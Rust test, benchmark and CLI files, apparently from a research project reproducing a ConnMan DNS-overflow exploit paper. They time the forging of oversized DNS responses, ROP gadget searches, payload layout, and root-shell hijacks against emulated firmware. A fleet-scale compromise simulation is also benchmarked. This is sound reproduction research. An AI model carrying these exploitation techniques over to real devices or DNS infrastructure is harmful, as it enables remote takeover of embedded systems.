            &Asm::new().sb(11, 10, -1).finish(),
            Insn::Sb {
                rs2: 11,
                rs1: 10,
                offset: -1,
            },
            4,
        );
        roundtrip(
            &Asm::new().addi(2, 2, -2048).finish(),
            Insn::Addi {
                rd: 2,
                rs1: 2,
                imm: -2048,
            },
            4,
        );
        roundtrip(
            &Asm::new().andi(10, 10, 0xFF).finish(),
            Insn::Andi {
                rd: 10,
                rs1: 10,
                imm: 0xFF,
            },
            4,
        );
        roundtrip(
            &Asm::new().ori(10, 10, 1).finish(),
            Insn::Ori {
                rd: 10,
                rs1: 10,
                imm: 1,
            },
            4,
        );
        roundtrip(
            &Asm::new().xori(10, 10, -1).finish(),
            Insn::Xori {
                rd: 10,
                rs1: 10,
                imm: -1,
            },
            4,
        );
        roundtrip(
            &Asm::new().slli(10, 10, 31).finish(),
            Insn::Slli {
                rd: 10,
                rs1: 10,
                shamt: 31,
            },
            4,
        );
        roundtrip(
            &Asm::new().srli(10, 10, 1).finish(),
            Insn::Srli {
                rd: 10,
                rs1: 10,
                shamt: 1,
            },
            4,
        );
        roundtrip(
            &Asm::new().add(10, 11, 12).finish(),
            Insn::Add {
                rd: 10,
                rs1: 11,
                rs2: 12,
            },
            4,
        );
        roundtrip(
            &Asm::new().sub(10, 11, 12).finish(),
            Insn::Sub {
                rd: 10,
                rs1: 11,
                rs2: 12,
            },
            4,
        );
        roundtrip(&Asm::new().ecall().finish(), Insn::Ecall, 4);
        roundtrip(&Asm::new().ebreak().finish(), Insn::Ebreak, 4);
    }

    #[test]
    fn compressed_roundtrip() {
        roundtrip(
            &Asm::new().c_nop().finish(),
            Insn::Addi {
                rd: 0,
                rs1: 0,
                imm: 0,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_addi(10, -1).finish(),
            Insn::Addi {
                rd: 10,
                rs1: 10,
                imm: -1,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_li(17, 27).finish(),
            Insn::Addi {
                rd: 17,
                rs1: 0,
                imm: 27,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_lui(11, 0x1f000).finish(),
            Insn::Lui {
                rd: 11,
                imm: 0x1f000,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_addi16sp(-64).finish(),
            Insn::Addi {
                rd: 2,
                rs1: 2,
                imm: -64,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_addi4spn(10, 16).finish(),
            Insn::Addi {
                rd: 10,
                rs1: 2,
                imm: 16,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_mv(10, 11).finish(),
            Insn::Add {
                rd: 10,
                rs1: 0,
                rs2: 11,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_add(10, 11).finish(),
            Insn::Add {
                rd: 10,
                rs1: 10,
                rs2: 11,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_ret().finish(),
            Insn::Jalr {
                rd: 0,
                rs1: 1,
                offset: 0,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_jalr(10).finish(),
            Insn::Jalr {
                rd: 1,
                rs1: 10,
                offset: 0,
            },
            2,
        );
        roundtrip(&Asm::new().c_ebreak().finish(), Insn::Ebreak, 2);
        roundtrip(
            &Asm::new().c_j(-6).finish(),
            Insn::Jal { rd: 0, offset: -6 },
            2,
        );
        roundtrip(
            &Asm::new().c_beqz(8, 8).finish(),
            Insn::Beq {
                rs1: 8,
                rs2: 0,
                offset: 8,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_bnez(15, -8).finish(),
            Insn::Bne {
                rs1: 15,
                rs2: 0,
                offset: -8,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_slli(10, 4).finish(),
            Insn::Slli {
                rd: 10,
                rs1: 10,
                shamt: 4,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_lwsp(10, 8).finish(),
            Insn::Lw {
                rd: 10,
                rs1: 2,
                offset: 8,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_swsp(1, 12).finish(),
            Insn::Sw {
                rs2: 1,
                rs1: 2,
                offset: 12,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_lw(12, 10, 0).finish(),
            Insn::Lw {
                rd: 12,
                rs1: 10,
                offset: 0,
            },
            2,
        );
        roundtrip(
            &Asm::new().c_sw(12, 10, 4).finish(),
            Insn::Sw {
                rs2: 12,
                rs1: 10,
                offset: 4,
            },
            2,
        );
    }

    #[test]
    fn canonical_ret_bytes() {
        // The `ret` parcel gadget scanners look for.
        assert_eq!(Asm::new().c_ret().finish(), vec![0x82, 0x80]);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn oversized_i_immediate_panics() {
        let _ = Asm::new().addi(0, 0, 2048);
    }

    #[test]
    #[should_panic(expected = "halfword-aligned")]
    fn odd_branch_offset_panics() {
        let _ = Asm::new().beq(0, 0, 3);
    }

    #[test]
    #[should_panic(expected = "not addressable compressed")]
    fn non_compressed_register_panics() {
        let _ = Asm::new().c_lw(2, 10, 0);
    }
}
