//! DNS wire-codec benchmarks: the packet path every experiment rides.

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_dns::forge::ResponseForge;
use cml_dns::validate::gate_response;
use cml_dns::{Message, Name, Question, Record, RecordData, RecordType};

fn sample_query() -> Message {
    Message::query(
        0x1234,
        Question::new(
            Name::parse("sensor.update.vendor.example.com").unwrap(),
            RecordType::A,
        ),
    )
}

fn sample_response() -> Message {
    let q = sample_query();
    let mut r = Message::response_to(&q);
    for i in 0..8 {
        r.push_answer(Record::new(
            Name::parse("sensor.update.vendor.example.com").unwrap(),
            300,
            RecordData::A(std::net::Ipv4Addr::new(10, 0, 0, i)),
        ));
    }
    r
}

fn bench_encode(c: &mut Criterion) {
    let query = sample_query();
    let response = sample_response();
    c.bench_function("dns/encode_query", |b| {
        b.iter(|| black_box(&query).encode().unwrap())
    });
    c.bench_function("dns/encode_response_8_answers", |b| {
        b.iter(|| black_box(&response).encode().unwrap())
    });
}

fn bench_decode(c: &mut Criterion) {
    let bytes = sample_response().encode().unwrap();
    c.bench_function("dns/decode_response_8_answers", |b| {
        b.iter(|| Message::decode(black_box(&bytes)).unwrap())
    });
}

fn bench_forge_and_gate(c: &mut Criterion) {
    let query = sample_query();
    let labels = vec![vec![0x41u8; 63]; 20];
    c.bench_function("dns/forge_overflow_response", |b| {
        b.iter(|| {
            ResponseForge::answering(black_box(&query))
                .with_payload_labels(labels.clone())
                .unwrap()
                .build()
                .unwrap()
        })
    });
    let forged = ResponseForge::answering(&query)
        .with_payload_labels(labels)
        .unwrap()
        .build()
        .unwrap();
    c.bench_function("dns/gate_response", |b| {
        b.iter(|| gate_response(black_box(&query), black_box(&forged)).unwrap())
    });
}

criterion_group!(benches, bench_encode, bench_decode, bench_forge_and_gate);
criterion_main!(benches);
