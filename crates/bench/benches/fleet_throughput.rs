//! Fleet-scale throughput: the 1,000-device heterogeneous rogue-AP
//! scenario from `cml_core::fleet`, serial vs. a 4-worker pool.
//!
//! The interesting number is devices/sec and the serial→parallel ratio;
//! each sample is a full fleet sweep, so the group runs few samples.

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_core::fleet::{run_fleet, FleetSpec};

fn bench_fleet(c: &mut Criterion) {
    let spec = FleetSpec::heterogeneous(1000, 0xF1EE7);
    let mut group = c.benchmark_group("fleet");
    group.sample_size(10);
    for jobs in [1usize, 2, 4] {
        group.bench_function(format!("1000_devices_jobs{jobs}"), |b| {
            b.iter(|| black_box(run_fleet(&spec, jobs)))
        });
    }
    group.finish();
}

fn bench_fleet_scale(c: &mut Criterion) {
    // The million-device campaign: weak-boot-entropy classes, shared
    // CoW boots, batched answer fan-out, streamed per-cohort report.
    let spec = FleetSpec::homogeneous(1_000_000, 0xF1EE7);
    let mut group = c.benchmark_group("fleet_scale");
    group.sample_size(10);
    for jobs in [1usize, 2] {
        group.bench_function(format!("1M_devices_jobs{jobs}"), |b| {
            b.iter(|| black_box(run_fleet(&spec, jobs)))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_fleet, bench_fleet_scale);
criterion_main!(benches);
