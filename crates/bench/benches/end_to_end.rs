//! End-to-end attack benchmarks: one full resolve→forge→deliver→hijack
//! cycle per scenario (boot excluded via batched setup).

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};

use cml_exploit::target::deliver_labels;
use cml_exploit::{strategies_for, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

fn protections_for(section: &str) -> Protections {
    match section {
        "III-A1" | "III-A2" => Protections::none(),
        "III-B1" | "III-B2" => Protections::wxorx(),
        _ => Protections::full(),
    }
}

fn bench_exploits(c: &mut Criterion) {
    let mut g = c.benchmark_group("end_to_end");
    g.sample_size(20);
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        for strategy in strategies_for(arch) {
            let protections = protections_for(strategy.paper_section());
            let fw2 = fw.clone();
            let info = TargetInfo::gather(fw.image(), move || fw2.boot(protections, 5))
                .expect("vulnerable firmware");
            let labels = strategy.build(&info).unwrap().to_labels().unwrap();
            let fw3 = fw.clone();
            g.bench_function(format!("{}_{arch}", strategy.paper_section()), |b| {
                b.iter_batched(
                    || fw3.boot(protections, 0xD00D),
                    |mut victim| {
                        let out = deliver_labels(&mut victim, labels.clone()).unwrap();
                        assert!(out.is_root_shell(), "{out}");
                        out
                    },
                    BatchSize::SmallInput,
                )
            });
        }
    }
    g.finish();
}

fn bench_benign_resolution(c: &mut Criterion) {
    // Baseline: what a lookup costs when nobody is attacking.
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
    let mut g = c.benchmark_group("end_to_end");
    g.sample_size(20);
    g.bench_function("benign_lookup_ARMv7", |b| {
        b.iter_batched(
            || fw.boot(Protections::full(), 0xD00D),
            |mut daemon| {
                use cml_connman::Resolution;
                use cml_dns::forge::ResponseForge;
                use cml_dns::{Message, Name, RecordType};
                let name = Name::parse("cloud.example").unwrap();
                let Resolution::Query(q) = daemon.resolve(&name, RecordType::A) else {
                    unreachable!("cold cache");
                };
                let query = Message::decode(&q).unwrap();
                let resp = ResponseForge::answering(&query)
                    .with_payload_labels(vec![b"cloud".to_vec(), b"example".to_vec()])
                    .unwrap()
                    .build()
                    .unwrap();
                daemon.deliver_response(&resp)
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

criterion_group!(benches, bench_exploits, bench_benign_resolution);
criterion_main!(benches);
