//! Ablation benchmarks for the design choices DESIGN.md calls out.

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_exploit::BufferImage;
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
use cml_vm::{x86, Machine, X86Reg};

/// Ablation 1 — gadget scanning granularity: every-byte (what we ship,
/// finds unintended unaligned gadgets) vs. instruction-aligned-only
/// (cheaper, misses them). The shipped scanner is `GadgetSet::scan`;
/// the aligned variant is reimplemented here from the public decoder.
fn ablation_scan_mode(c: &mut Criterion) {
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let text = fw
        .image()
        .section(cml_image::SectionKind::Text)
        .unwrap()
        .bytes()
        .to_vec();

    c.bench_function("ablation/scan_every_offset", |b| {
        b.iter(|| {
            let mut found = 0usize;
            for start in 0..text.len() {
                if ends_in_ret(&text[start..]) {
                    found += 1;
                }
            }
            black_box(found)
        })
    });
    c.bench_function("ablation/scan_linear_sweep", |b| {
        b.iter(|| {
            let mut found = 0usize;
            let mut pos = 0usize;
            while pos < text.len() {
                match x86::decode(&text[pos..]) {
                    Ok((_, len)) => {
                        if ends_in_ret(&text[pos..]) {
                            found += 1;
                        }
                        pos += len;
                    }
                    Err(_) => pos += 1,
                }
            }
            black_box(found)
        })
    });
}

fn ends_in_ret(bytes: &[u8]) -> bool {
    let mut pos = 0usize;
    for _ in 0..6 {
        match x86::decode(&bytes[pos..]) {
            Ok((x86::Insn::Ret, _)) => return true,
            Ok((x86::Insn::PopR(_), len)) => pos += len,
            _ => return false,
        }
    }
    false
}

/// Ablation 2 — frame-simulation fidelity: the vulnerable daemon writes
/// the whole overflow through the simulated MMU; the patched one
/// bounds-checks and stops early. The delta is the price of fidelity.
fn ablation_frame_sim(c: &mut Criterion) {
    use cml_exploit::target::deliver_labels;
    let labels: Vec<Vec<u8>> = vec![vec![0x41u8; 63]; 20];
    for (name, kind) in [
        ("full_frame_write", FirmwareKind::OpenElec),
        ("bounds_checked_early_exit", FirmwareKind::Patched),
    ] {
        let fw = Firmware::build(kind, Arch::X86);
        c.bench_function(format!("ablation/{name}"), |b| {
            b.iter_batched(
                || fw.boot(Protections::none(), 7),
                |mut daemon| deliver_labels(&mut daemon, labels.clone()).unwrap(),
                criterion::BatchSize::SmallInput,
            )
        });
    }
}

/// Ablation 3 — layout solving: DP labelizer on a constrained chain vs.
/// naive 63-byte chunking of an unconstrained buffer.
fn ablation_labelize(c: &mut Criterion) {
    let mut constrained = BufferImage::filler(1072);
    let mut off = 1072;
    for i in 0..10 {
        constrained.set_word(off, 0x0001_2000 + i);
        constrained.set_flex_word(off + 4, 0);
        off += 8;
    }
    c.bench_function("ablation/labelize_dp", |b| {
        b.iter(|| black_box(&constrained).labelize().unwrap())
    });
    let raw = vec![0x41u8; 1152];
    c.bench_function("ablation/labelize_naive_chunking", |b| {
        b.iter(|| {
            black_box(&raw)
                .chunks(63)
                .map(<[u8]>::to_vec)
                .collect::<Vec<_>>()
        })
    });
}

/// Ablation 4 — predecoded-instruction cache: a genuine backward loop
/// (the same few pcs re-executed ~200 times, like the daemon's parser
/// loops) with the per-page decode cache on (what we ship) vs. forced
/// off (every step re-decodes from raw bytes).
fn ablation_decode_cache(c: &mut Criterion) {
    use cml_image::{Perms, SectionKind};
    // mov ecx, 200; loop: inc eax ×4; dec ecx; jnz loop (body = 7
    // bytes, so rel8 = -7 back past inc/inc/inc/inc/dec + the jnz
    // itself); then exit(0).
    let code = x86::Asm::new()
        .mov_r_imm(X86Reg::Ecx, 200)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .dec_r(X86Reg::Ecx)
        .jnz_rel8(-7)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .mov_r8_imm(X86Reg::Eax, 1)
        .int80()
        .finish();
    for (name, cache_on) in [("decode_cache_on", true), ("decode_cache_off", false)] {
        c.bench_function(format!("ablation/{name}"), |b| {
            b.iter(|| {
                let mut m = Machine::new(Arch::X86);
                m.set_decode_cache_enabled(cache_on);
                m.mem_mut()
                    .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
                m.mem_mut()
                    .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
                m.mem_mut().poke(0x1000, &code).unwrap();
                m.regs_mut().set_pc(0x1000);
                m.regs_mut().set_sp(0x8800);
                black_box(m.run(10_000))
            })
        });
    }
}

/// Ablation 5 — boot-once/fork-many: one E8-style brute-force trial
/// (boot the OpenELEC/x86 daemon under full protections, deliver one
/// oversized response) paying a full boot per trial vs. forking a
/// snapshot (restore + fresh ASLR re-slide) per trial.
fn ablation_snapshot_vs_reboot(c: &mut Criterion) {
    use cml_exploit::target::deliver_labels;
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let prot = Protections::full();
    let labels: Vec<Vec<u8>> = vec![0x41u8; 1300].chunks(63).map(<[u8]>::to_vec).collect();
    c.bench_function("ablation/snapshot_vs_reboot/fresh_boot", |b| {
        b.iter(|| {
            let mut daemon = fw.boot(prot, 0x5EED_0000);
            black_box(deliver_labels(&mut daemon, labels.clone()))
        })
    });
    let mut forge = fw.forge(prot, 0x5EED_0000);
    c.bench_function("ablation/snapshot_vs_reboot/snapshot_fork", |b| {
        b.iter(|| {
            // A non-base seed so every fork pays the full restore +
            // re-slide path, like an E8 trial.
            let daemon = forge.fork(0x5EED_0001);
            black_box(deliver_labels(daemon, labels.clone()))
        })
    });
}

/// Ablation 6 — fused basic-block dispatch: the decode-cache hot loop
/// again (a daemon_init-shaped backward loop), dispatching fused
/// straight-line blocks (what we ship) vs. stepping per instruction.
fn ablation_block_dispatch(c: &mut Criterion) {
    use cml_image::{Perms, SectionKind};
    let code = x86::Asm::new()
        .mov_r_imm(X86Reg::Ecx, 2_000)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .dec_r(X86Reg::Ecx)
        .jnz_rel8(-7)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .mov_r8_imm(X86Reg::Eax, 1)
        .int80()
        .finish();
    for (name, blocks_on) in [("block_dispatch", true), ("insn_dispatch", false)] {
        c.bench_function(format!("ablation/block_vs_insn/{name}"), |b| {
            b.iter(|| {
                let mut m = Machine::new(Arch::X86);
                m.set_block_dispatch_enabled(blocks_on);
                m.mem_mut()
                    .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
                m.mem_mut()
                    .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
                m.mem_mut().poke(0x1000, &code).unwrap();
                m.regs_mut().set_pc(0x1000);
                m.regs_mut().set_sp(0x8800);
                black_box(m.run(100_000))
            })
        });
    }
}

criterion_group!(
    benches,
    ablation_scan_mode,
    ablation_frame_sim,
    ablation_labelize,
    ablation_decode_cache,
    ablation_snapshot_vs_reboot,
    ablation_block_dispatch
);
criterion_main!(benches);
