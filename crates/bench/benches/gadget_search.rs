//! Gadget-finder benchmarks (the `ropper` / `ROPgadget` step).

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_exploit::GadgetSet;
use cml_firmware::{Arch, Firmware, FirmwareKind};

fn bench_scan(c: &mut Criterion) {
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        c.bench_function(format!("gadget/scan_{arch}"), |b| {
            b.iter(|| GadgetSet::scan(black_box(fw.image())))
        });
    }
}

fn bench_queries(c: &mut Criterion) {
    let fw_x86 = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let fw_arm = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
    let set_x86 = GadgetSet::scan(fw_x86.image());
    let set_arm = GadgetSet::scan(fw_arm.image());
    c.bench_function("gadget/query_x86_pop4", |b| {
        b.iter(|| black_box(&set_x86).x86_pop_chain(4).unwrap().addr)
    });
    c.bench_function("gadget/query_arm_pop_including", |b| {
        b.iter(|| {
            black_box(&set_arm)
                .arm_pop_including(&[0, 1, 2, 3, 5, 6, 7])
                .unwrap()
                .addr
        })
    });
    c.bench_function("gadget/memstr_slash", |b| {
        b.iter(|| black_box(fw_x86.image()).find_bytes(b"/"))
    });
}

criterion_group!(benches, bench_scan, bench_queries);
criterion_main!(benches);
