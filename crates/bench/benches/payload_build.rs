//! Payload-construction benchmarks: reconnaissance, strategy build and
//! the DNS label-layout solver.

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_exploit::strategies_for;
use cml_exploit::{BufferImage, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

fn bench_recon(c: &mut Criterion) {
    let mut g = c.benchmark_group("recon");
    g.sample_size(20);
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        g.bench_function(format!("gather_{arch}"), |b| {
            b.iter(|| {
                let fw2 = fw.clone();
                TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 5)).unwrap()
            })
        });
    }
    g.finish();
}

fn bench_strategy_build(c: &mut Criterion) {
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        let fw2 = fw.clone();
        let info =
            TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 5)).unwrap();
        for strategy in strategies_for(arch) {
            c.bench_function(format!("build/{}_{arch}", strategy.name()), |b| {
                b.iter(|| strategy.build(black_box(&info)).unwrap())
            });
        }
    }
}

fn bench_labelize(c: &mut Criterion) {
    // Worst realistic case: a dense chain image with interleaved fixed
    // words and flexible placeholders.
    let mut img = BufferImage::filler(1072);
    let mut off = 1072;
    for block in 0..8 {
        for w in 0..8 {
            if (4..7).contains(&w) {
                img.set_flex_word(off, 0);
            } else {
                img.set_word(off, 0x0001_1000 + block * 64 + w as u32);
            }
            off += 4;
        }
    }
    c.bench_function("labelize/dense_chain_1300B", |b| {
        b.iter(|| black_box(&img).labelize().unwrap())
    });
    let filler = BufferImage::filler(1300);
    c.bench_function("labelize/pure_filler_1300B", |b| {
        b.iter(|| black_box(&filler).labelize().unwrap())
    });
}

criterion_group!(benches, bench_recon, bench_strategy_build, bench_labelize);
criterion_main!(benches);
