//! Machine-substrate benchmarks: interpreter throughput, hook dispatch
//! and loader cost.

use criterion::{black_box, criterion_group, criterion_main, Criterion};

use cml_firmware::{Arch, Firmware, FirmwareKind};
use cml_image::{Perms, SectionKind};
use cml_vm::{arm, x86, Loader, Machine, Protections, X86Reg};

fn bench_interpreters(c: &mut Criterion) {
    // A tight arithmetic loop, ~1000 instructions per run.
    let x86_code = {
        let mut a = x86::Asm::new().mov_r_imm(X86Reg::Ecx, 0);
        for _ in 0..8 {
            a = a.inc_r(X86Reg::Ecx).dec_r(X86Reg::Ecx).inc_r(X86Reg::Ecx);
        }
        a.xor_rr(X86Reg::Eax, X86Reg::Eax)
            .mov_r8_imm(X86Reg::Eax, 1)
            .int80()
            .finish()
    };
    c.bench_function("vm/x86_step_sequence", |b| {
        b.iter(|| {
            let mut m = Machine::new(Arch::X86);
            m.mem_mut()
                .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
            m.mem_mut()
                .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
            m.mem_mut().poke(0x1000, &x86_code).unwrap();
            m.regs_mut().set_pc(0x1000);
            m.regs_mut().set_sp(0x8800);
            black_box(m.run(10_000))
        })
    });

    let arm_code = {
        let mut a = arm::Asm::new().mov_imm(2, 0);
        for _ in 0..12 {
            a = a.add_imm(2, 2, 1).sub_imm(2, 2, 1);
        }
        a.mov_imm(7, 1).mov_imm(0, 0).svc0().finish()
    };
    c.bench_function("vm/arm_step_sequence", |b| {
        b.iter(|| {
            let mut m = Machine::new(Arch::Armv7);
            m.mem_mut().map(
                ".text",
                Some(SectionKind::Text),
                0x1_0000,
                0x1000,
                Perms::RX,
            );
            m.mem_mut()
                .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
            m.mem_mut().poke(0x1_0000, &arm_code).unwrap();
            m.regs_mut().set_pc(0x1_0000);
            m.regs_mut().set_sp(0x8800);
            black_box(m.run(10_000))
        })
    });
}

fn bench_loader(c: &mut Criterion) {
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        c.bench_function(format!("vm/load_image_{arch}"), |b| {
            b.iter(|| {
                Loader::new(black_box(fw.image()))
                    .protections(Protections::full())
                    .seed(7)
                    .load()
            })
        });
    }
}

fn bench_memcpy_hook(c: &mut Criterion) {
    c.bench_function("vm/memcpy_hook_256B", |b| {
        b.iter(|| {
            let mut m = Machine::new(Arch::X86);
            m.mem_mut()
                .map("data", Some(SectionKind::Data), 0x3000, 0x1000, Perms::RW);
            m.mem_mut()
                .map("libc", Some(SectionKind::Libc), 0x7000, 0x100, Perms::RX);
            m.mem_mut()
                .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
            m.register_hook(0x7000, cml_vm::LibcFn::Memcpy);
            m.regs_mut().set_sp(0x8800);
            for v in [256u32, 0x3000, 0x3400, 0xdead] {
                m.push_u32(v).unwrap();
            }
            m.regs_mut().set_pc(0x7000);
            black_box(m.step().unwrap())
        })
    });
}

criterion_group!(benches, bench_interpreters, bench_loader, bench_memcpy_hook);
criterion_main!(benches);
