//! Regenerates every table/figure of the reproduced paper.
//!
//! ```text
//! repro                 # run E1..E8, print markdown to stdout
//! repro --exp e2 e5     # run selected experiments
//! repro --out FILE      # also write the markdown to FILE
//! repro --json          # machine-readable output
//! repro --jobs 4        # fan matrix experiments across 4 workers
//! repro --bench-json    # also time each experiment + a 1,000-device
//!                       # fleet + the static analyzer + the snapshot /
//!                       # dispatch ablations and write BENCH_<n>.json
//! repro --bench-smoke   # tiny-iteration ablation run compared against
//!                       # the newest committed BENCH_*.json; exits 1 on
//!                       # a >2x regression, 0 (with a note) when no
//!                       # baseline exists
//! repro --no-snapshot   # boot every E8 trial from scratch instead of
//!                       # forking a per-entropy-level snapshot
//! repro --sanitize      # run the 6-cell exploit matrix under the VM
//!                       # shadow-memory sanitizer and print precise
//!                       # overflow diagnostics per cell
//! ```

use std::io::Write;
use std::time::Instant;

use cml_core::experiments;
use cml_core::fleet::{run_fleet_with, FleetSpec};
use cml_core::report::Suite;
use cml_core::{Arch, Firmware, FirmwareKind, Lab, Protections, ProxyOutcome};
use cml_exploit::target::deliver_labels;
use cml_exploit::{ArmGadgetExeclp, CodeInjection, ExploitStrategy, Ret2Libc, RopMemcpyChain};
use cml_vm::{x86, Fault, Machine, X86Reg};

const ALL_IDS: [&str; 8] = ["e1", "e2", "e3", "e4", "e5", "e6", "e7", "e8"];
const FLEET_DEVICES: usize = 1000;

fn main() {
    let mut ids: Vec<String> = Vec::new();
    let mut out_path: Option<String> = None;
    let mut json = false;
    let mut bench_json = false;
    let mut bench_smoke = false;
    let mut sanitize = false;
    let mut snapshot = true;
    let mut jobs = 1usize;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--exp" => { /* ids follow */ }
            "--out" => out_path = args.next(),
            "--json" => json = true,
            "--bench-json" | "--timings" => bench_json = true,
            "--bench-smoke" => bench_smoke = true,
            "--sanitize" => sanitize = true,
            "--no-snapshot" => snapshot = false,
            "--jobs" => {
                jobs = args.next().and_then(|v| v.parse().ok()).unwrap_or_else(|| {
                    eprintln!("--jobs wants a number, using 1");
                    1
                });
            }
            "--help" | "-h" => {
                eprintln!(
                    "usage: repro [--exp e1 e2 …] [--out FILE] [--json] \
                     [--jobs N] [--bench-json|--timings] [--bench-smoke] \
                     [--no-snapshot] [--sanitize]"
                );
                return;
            }
            other => ids.push(other.to_string()),
        }
    }

    if bench_smoke {
        std::process::exit(smoke_vs_baseline());
    }
    if sanitize {
        std::process::exit(sanitize_matrix());
    }

    let run_ids: Vec<String> = if ids.is_empty() {
        ALL_IDS.iter().map(|s| s.to_string()).collect()
    } else {
        ids.clone()
    };
    if ids.is_empty() {
        eprintln!("running all experiments (E1..E8) on {jobs} worker(s)…");
    }

    // Run experiment-by-experiment so --bench-json can attribute wall
    // time to each table; concatenating per-id runs reproduces
    // run_all_jobs() output exactly (both are ordered merges).
    let mut tables = Vec::new();
    let mut timings: Vec<(String, f64)> = Vec::new();
    for id in &run_ids {
        let t0 = Instant::now();
        match experiments::run_one_jobs_with(id, jobs, snapshot) {
            Some(t) => {
                let secs = t0.elapsed().as_secs_f64();
                eprintln!("finished {id} in {:.2}s", secs);
                timings.push((id.clone(), secs));
                tables.push(t);
            }
            None => eprintln!("unknown experiment id {id:?} (want e1..e8)"),
        }
    }
    let suite = Suite { tables };

    let body = if json {
        to_json(&suite)
    } else {
        suite.to_markdown()
    };
    println!("{body}");
    if let Some(path) = out_path {
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(body.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }

    if bench_json {
        let spec = FleetSpec::heterogeneous(FLEET_DEVICES, 0xF1EE7);
        eprintln!("timing a {FLEET_DEVICES}-device fleet on {jobs} worker(s)…");
        let report = run_fleet_with(&spec, jobs, snapshot);
        eprintln!(
            "fleet: {} devices in {:.2}s ({:.1} devices/sec, {} compromised)",
            report.outcomes.len(),
            report.elapsed.as_secs_f64(),
            report.devices_per_sec(),
            report.compromised()
        );
        eprintln!("timing the static analyzer on both architectures…");
        let analysis = analysis_timings();
        for (arch, secs, insns) in &analysis {
            eprintln!("analyzer: {arch} CFG+taint+audit over {insns} instructions in {secs:.4}s");
        }
        eprintln!("running the snapshot/dispatch ablations…");
        let ablations = run_ablations(ABLATION_TRIALS);
        eprintln!("{}", ablations.describe());
        let path = next_bench_path();
        let doc = bench_json_doc(jobs, &timings, &report, &analysis, &ablations);
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(doc.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }
}

/// Trials per ablation arm for the full `--bench-json` run.
const ABLATION_TRIALS: u64 = 48;

/// Trials per ablation arm for the `--bench-smoke` CI stage.
const SMOKE_TRIALS: u64 = 6;

/// The harness-throughput ablation numbers recorded in `BENCH_<n>.json`.
struct Ablations {
    trials: u64,
    /// Mean executed instructions per E8-style trial, fresh boot each.
    fresh_insns: u64,
    /// Same, forking one snapshot (restore + reslide) per trial.
    forked_insns: u64,
    fresh_wall_secs: f64,
    forked_wall_secs: f64,
    /// Wall seconds for the same hot-loop run under fused basic-block
    /// dispatch vs. forced per-instruction stepping (same insn counts —
    /// the modes are semantically identical; only dispatch cost moves).
    block_wall_secs: f64,
    insn_wall_secs: f64,
    /// Executed instructions per run in both dispatch arms.
    dispatch_insns: u64,
}

impl Ablations {
    fn insn_ratio(&self) -> f64 {
        self.fresh_insns as f64 / self.forked_insns.max(1) as f64
    }

    fn describe(&self) -> String {
        format!(
            "snapshot_vs_reboot: {} vs {} insns/trial ({:.1}x fewer), \
             {:.3}s vs {:.3}s over {} trials\n\
             block_vs_insn: {:.3}s vs {:.3}s for {} insns/trial",
            self.fresh_insns,
            self.forked_insns,
            self.insn_ratio(),
            self.fresh_wall_secs,
            self.forked_wall_secs,
            self.trials,
            self.block_wall_secs,
